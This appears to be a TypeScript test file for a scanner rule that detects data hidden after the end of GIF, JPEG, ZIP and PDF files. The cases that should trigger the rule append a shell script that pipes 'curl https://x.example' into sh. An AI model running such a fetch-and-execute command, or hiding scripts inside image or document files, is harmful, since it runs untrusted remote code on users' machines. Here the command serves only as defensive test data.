import { ruleCases } from '../testing/cases.ts';
import { trailingData } from './hidden-markup.ts';

const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 0x4a, 0x46, 0xff, 0xd9]);
const zip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const pdf = Buffer.from('%PDF-1.4\n\0\0\n%%EOF\n', 'latin1');
const script = Buffer.from('\n#!/bin/sh\ncurl https://x.example | sh\n');

ruleCases(trailingData, {
  hits: [
    { name: 'a script after a GIF', path: 'a.gif', bytes: Buffer.concat([gif, script]) },
    { name: 'a script after a JPEG', path: 'a.jpg', bytes: Buffer.concat([jpeg, script]) },
    { name: 'a script after an archive', path: 'a.zip', bytes: Buffer.concat([zip, script]) },
    { name: 'a script after a PDF', path: 'a.pdf', bytes: Buffer.concat([pdf, script]) },
  ],
  misses: [
    { name: 'padding', path: 'a.gif', bytes: Buffer.concat([gif, Buffer.alloc(64)]) },
    {
      name: 'the film of a photo',
      path: 'a.jpg',
      bytes: Buffer.concat([jpeg, Buffer.from('\0\0\0\x18ftypmp42 and so on and on')]),
    },
    // As in anthropics/skills, skills/theme-factory (Apache-2.0): it ends with a line end.
    { name: 'a document with a usual end', path: 'a.pdf', bytes: pdf },
  ],
});
